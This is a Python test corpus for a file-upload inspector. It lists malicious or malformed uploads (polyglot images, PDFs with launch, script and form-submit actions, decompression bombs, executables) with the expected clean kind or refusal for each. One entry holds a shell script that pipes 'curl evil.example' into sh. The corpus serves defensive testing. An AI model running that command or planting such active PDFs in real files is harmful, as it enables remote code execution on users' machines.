"""Files that somebody may send, and what must become of each: a clean copy of a kind, or a refusal."""

import random
from collections.abc import Callable

from pikepdf import Dictionary, Name, String

from core.uploads.inspection import MOST_INFLATED, Kind, Refusal
from tests.core.uploads import papers, pictures
from tests.core.uploads.papers import annotated, pdf, with_page, with_root
from tests.core.uploads.pictures import MARK, SCRIPT, jpeg, png
from tests.core.uploads.verdicts import Verdict

Build = Callable[[], bytes]

NUL = b"\0"
DICOM = bytes(128) + b"DICM" + MARK

CORPUS: dict[str, tuple[Build, Verdict]] = {
    # Two files in one
    "a jpeg that is a page behind its end": (lambda: jpeg() + SCRIPT, Kind.JPG),
    "a jpeg that is an archive behind its end": (lambda: jpeg() + pictures.a_zip(), Kind.JPG),
    "a jpeg whose comment is a page": (lambda: jpeg(comment=SCRIPT), Kind.JPG),
    "a png that is a page behind its end": (lambda: png() + SCRIPT, Kind.PNG),
    "a pdf that is an archive behind its end": (lambda: pdf() + pictures.a_zip(), Kind.PDF),
    "a page that is a pdf": (lambda: SCRIPT + pdf(), Kind.PDF),
    "a program that is a pdf": (lambda: b"MZ" + MARK + NUL * 100 + pdf(), Kind.PDF),
    "an archive that begins as a jpeg": (lambda: b"\xff\xd8\xff" + pictures.a_zip(), Refusal.BROKEN),
    # JPEG
    "a jpeg with the place where it was taken": (pictures.jpeg_from_a_phone, Kind.JPG),
    "a jpeg with pictures behind the first": (pictures.jpeg_with_pictures_behind, Kind.JPG),
    "a jpeg in printer's ink": (pictures.jpeg_in_ink, Kind.JPG),
    "a jpeg in wide colours": (pictures.jpeg_with_wide_colours, Kind.JPG),
    "a jpeg with a broken profile": (pictures.jpeg_with_a_broken_profile, Kind.JPG),
    "a jpeg that breaks off": (lambda: jpeg()[:-200], Refusal.BROKEN),
    "a jpeg that claims four gigapixels": (lambda: pictures.jpeg_that_claims(65_000, 65_000), Refusal.TOO_MANY_PIXELS),
    "a jpeg that claims more than it has": (lambda: pictures.jpeg_that_claims(4_000, 3_000), Kind.JPG),
    # PNG
    "a png of 144 megapixels": (pictures.png_of_144_megapixels, Refusal.TOO_MANY_PIXELS),
    "a png of a row more than 50 megapixels": (lambda: pictures.png_of(50_005_000), Refusal.TOO_MANY_PIXELS),
    "a png with sixteen bits": (pictures.png_with_deep_greys, Kind.PNG),
    "a png with a palette and holes": (lambda: png("P", transparency=3), Kind.PNG),
    "a png in black and white": (lambda: png("1"), Kind.PNG),
    "a png that moves": (pictures.png_that_moves, Kind.PNG),
    "a png that talks": (pictures.png_that_talks, Kind.PNG),
    "a png whose comment unpacks": (pictures.png_whose_comment_unpacks, Refusal.BROKEN),
    "a png whose profile unpacks": (pictures.png_whose_profile_unpacks, Refusal.BROKEN),
    "a png that breaks off": (lambda: png()[:-60], Refusal.BROKEN),
    "a png with a wrong sum": (pictures.png_with_a_wrong_sum, Refusal.BROKEN),
    # HEIC
    "a heic": (pictures.heic, Kind.JPG),
    "a heic that breaks off": (lambda: pictures.heic()[:-100], Refusal.BROKEN),
    "a heic of nothing": (lambda: b"\0\0\0\x18ftypheic" + NUL * 500, Refusal.BROKEN),
    # PDF that acts
    "a pdf with a script": (papers.with_named_script, Kind.PDF),
    "a pdf that runs when it is opened": (lambda: with_root(OpenAction=papers.script()), Kind.PDF),
    "a pdf that starts a program": (lambda: with_root(OpenAction=papers.launch()), Kind.PDF),
    "a pdf that runs when it is closed": (lambda: with_root(AA=Dictionary(WC=papers.script())), Kind.PDF),
    "a pdf whose page runs": (lambda: with_page(AA=Dictionary(O=papers.launch())), Kind.PDF),
    "a pdf whose link starts a program": (lambda: annotated(papers.launch()), Kind.PDF),
    "a pdf with a chain of actions": (papers.with_a_chain_of_actions, Kind.PDF),
    "a pdf that leads outside": (
        lambda: annotated(Dictionary(S=Name.URI, URI=String(f"https://{MARK.decode()}.example"))), Kind.PDF,
    ),
    "a pdf that sends what is typed": (
        lambda: annotated(Dictionary(S=Name.SubmitForm, F=String(f"https://{MARK.decode()}.example"))), Kind.PDF,
    ),
    "a pdf that opens another": (lambda: annotated(Dictionary(S=Name.GoToR, F=String(MARK.decode()))), Kind.PDF),
    "a pdf with a film": (papers.with_rich_media, Kind.PDF),
    "a pdf with a living form": (papers.with_a_living_form, Kind.PDF),
    "a pdf with a program attached": (papers.with_attached_program, Kind.PDF),
    "a pdf with a paper clip": (papers.with_a_paper_clip, Kind.PDF),
    # PDF that is too much
    "a pdf with a password": (papers.with_a_password, Refusal.ENCRYPTED),
    "a pdf that may not be printed": (papers.that_may_not_be_printed, Kind.PDF),
    "a pdf that unpacks to too much": (lambda: papers.that_unpacks_to(MOST_INFLATED + 1), Refusal.TOO_HEAVY),
    "a pdf whose streams unpack to too much": (
        lambda: papers.that_unpacks_in_parts(MOST_INFLATED // 4, 5), Refusal.TOO_HEAVY,
    ),
    "a pdf that unpacks twice": (lambda: papers.that_unpacks_to(MOST_INFLATED + 1, times=2), Refusal.TOO_HEAVY),
    "a pdf of 200 pages": (lambda: pdf(pages=200), Kind.PDF),
    "a pdf of 201 pages": (lambda: pdf(pages=201), Refusal.TOO_MANY_PAGES),
    # PDF that is broken
    "a pdf with a torn table": (papers.with_a_torn_table, Kind.PDF),
    "a pdf whose pages are their own parents": (papers.whose_pages_are_their_own_parents, Refusal.BROKEN),
    "a pdf nested a hundred thousand times": (lambda: papers.nested(100_000), Refusal.BROKEN),
    "a pdf without pages": (papers.without_pages, Refusal.BROKEN),
    "a pdf that is only a header": (lambda: b"%PDF-1.7\n", Refusal.BROKEN),
    "a page that says it is a pdf": (lambda: b"<html>%PDF-1.7" + SCRIPT, Refusal.BROKEN),
    # What is not taken
    "a scan of a clinic": (lambda: DICOM, Refusal.DICOM),
    "a program that says it is a scan": (lambda: b"MZ" + DICOM[2:], Refusal.DICOM),
    "a drawing with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', Refusal.KIND),
    "a page": (lambda: SCRIPT, Refusal.KIND),
    "a document with macros": (pictures.a_docx, Refusal.KIND),
    "an old document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NUL * 512, Refusal.KIND),
    "an archive": (pictures.a_zip, Refusal.KIND),
    "a Windows program": (lambda: b"MZ" + NUL * 300, Refusal.KIND),
    "a Linux program": (lambda: b"\x7fELF\x02\x01\x01" + NUL * 300, Refusal.KIND),
    "a shell script": (lambda: b"#!/bin/sh\ncurl evil.example | sh\n", Refusal.KIND),
    "a gif": (lambda: pictures.saved(pictures.drawing(), "GIF"), Refusal.KIND),
    "a tiff": (lambda: pictures.saved(pictures.drawing(), "TIFF"), Refusal.KIND),
    "a webp": (lambda: pictures.saved(pictures.drawing(), "WEBP"), Refusal.KIND),
    "a film": (lambda: b"\0\0\0\x18ftypisom" + NUL * 500, Refusal.KIND),
    "nothing but zeros": (lambda: NUL * 5_000, Refusal.KIND),
    "noise": (lambda: random.Random(5).randbytes(5_000), Refusal.KIND),
}  # fmt: skip
